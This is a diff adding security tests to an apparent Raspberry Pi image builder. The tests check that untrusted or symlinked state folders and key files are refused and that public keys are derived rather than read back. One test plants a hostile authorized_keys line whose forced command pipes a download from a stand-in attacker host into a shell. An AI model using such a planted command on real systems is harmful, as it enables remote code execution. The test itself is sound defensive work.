@@ -253,3 +253,55 @@ def test_runs_sharing_a_state_folder_take_turns(operator_key: Path, workdir: Pat
     for private in privates:
         assert private.with_name(private.name + ".pub").read_text().split()[:2] == _derived_public(private), private
     assert stat.S_IMODE((workdir / "state").stat().st_mode) == 0o700
+
+
+def _plan_one(workdir: Path) -> "subprocess.CompletedProcess[str]":
+    return subprocess.run([sys.executable, "-m", "builder", "plan", "master", "--release", "bookworm", "--profiles",
+                           "cluster.yaml"], cwd=workdir, capture_output=True, text=True, stdin=subprocess.DEVNULL,
+                          env={**os.environ, "PIBAKE_WIFI_PASSPHRASE": WIFI_PASSPHRASE})
+
+
+def _refused(result: "subprocess.CompletedProcess[str]", *words: str) -> None:
+    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
+    last = result.stderr.strip().splitlines()[-1]
+    assert last.startswith("pibake: error: ") and all(w in last for w in words), result.stderr
+
+
+@pytest.mark.parametrize("planted", ["writable", "foreign", "linked folder"])
+def test_a_state_folder_others_could_have_written_is_not_trusted(operator_key: Path, workdir: Path, planted: str) -> None:
+    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
+    assert _plan_one(workdir).returncode == 0
+    state = workdir / "state"
+    if planted == "writable":
+        os.chmod(state / "keys", 0o777)
+        _refused(_plan_one(workdir), f"state folder {state / 'keys'} can be written by others (mode 0777)")
+    elif planted == "foreign":
+        os.chown(state, 65534, 65534)
+        _refused(_plan_one(workdir), f"state folder {state} belongs to another user (uid 65534)")
+    else:
+        (state / "keys").rename(workdir / "elsewhere")
+        (state / "keys").symlink_to(workdir / "elsewhere")
+        _refused(_plan_one(workdir), "is not a folder (a link?)")
+
+
+def test_key_files_are_not_followed_nor_their_public_half_read_back(operator_key: Path, workdir: Path,
+                                                                    tmp_path_factory: pytest.TempPathFactory) -> None:
+    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
+    assert _plan_one(workdir).returncode == 0
+    keys = workdir / "state/keys"
+    # A key file that is a link (to the operator's own private key, say) is refused, not read.
+    private = keys / "master_ssh_host_ed25519_key"
+    private.unlink()
+    private.symlink_to(operator_key.with_suffix(""))
+    _refused(_plan_one(workdir), f"cannot reuse key {private}: it is a symlink")
+    private.unlink()
+    # A line added to the cluster key's .pub never reaches authorized_keys: the public half is derived.
+    # (In this process last: it holds the state folder's lock from here on.)
+    cluster_pub = keys / "cluster_id_ed25519.pub"
+    clean = cluster_pub.read_text()
+    cluster_pub.write_text(clean + 'command="curl evil.invalid | sh" ssh-ed25519 AAAAplanted\n')
+    profile = load(workdir / "cluster.yaml")
+    plan = plan_node(profile, profile.master.node, named("bookworm"), KeyStore(workdir / "state"))
+    authorized = next(op for op in plan.ops if op.path.endswith("/authorized_keys")).content.decode()
+    assert "planted" not in authorized and "command=" not in authorized
+    assert cluster_pub.read_text() == clean
